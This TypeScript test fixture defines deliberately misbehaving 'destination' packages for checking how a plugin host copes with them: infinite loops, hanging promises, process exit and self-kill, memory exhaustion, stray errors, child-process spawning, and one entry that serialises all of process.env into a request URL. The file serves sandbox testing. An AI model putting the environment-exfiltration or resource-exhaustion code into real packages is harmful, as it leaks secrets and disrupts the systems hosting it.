// For tests: destinations that do everything a destination must not, under slugs of their own.
import type { OpenDefinitions } from "./host/thread.ts";
import type { PackageDefinition } from "./package-shapes.ts";

type Perform = (request: (url: string, options?: object) => Promise<unknown>, data: { readonly payload: Record<string, unknown> }) => unknown;

const field = { label: "Any", description: "", type: "string" };

function destination(perform: Perform): PackageDefinition {
  return { name: "hostile", actions: { send: { title: "Send", fields: { url: field, value: field }, perform } } } as unknown as PackageDefinition; // As the package's are, with the rest left out.
}

const kept: unknown[] = [];

const destinations: Readonly<Record<string, Perform>> = {
  good: (request, { payload }) => request(String(payload["url"] ?? "https://good.example.com/"), { method: "post", json: payload }),
  loop: () => {
    for (;;);
  },
  never: () => new Promise(() => undefined),
  exit: () => process.exit(3),
  kill: () => process.kill(process.pid, "SIGKILL"),
  memory: () => {
    for (;;) kept.push(new Array(100_000).fill(Math.random()));
  },
  stray: async (request, data) => {
    void Promise.reject(new Error("nobody waits for this"));
    setTimeout(() => {
      throw new Error("nor for this");
    }, 1);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return destinations["good"]?.(request, data);
  },
  late: async (request) => {
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    return request("https://late.example.com/");
  },
  environment: (request) => request(`https://good.example.com/${encodeURIComponent(JSON.stringify(process.env))}`),
  bug: () => {
    const nothing = undefined as unknown as { readonly far: string };
    return nothing.far;
  },
  program: async () => {
    const { spawn } = await import("node:child_process");
    return spawn("true");
  },
};

export const open: OpenDefinitions = () => (slug) => {
  const perform = destinations[slug];
  if (!perform) throw new Error(`There is no ${slug}.`);
  return destination(perform);
};
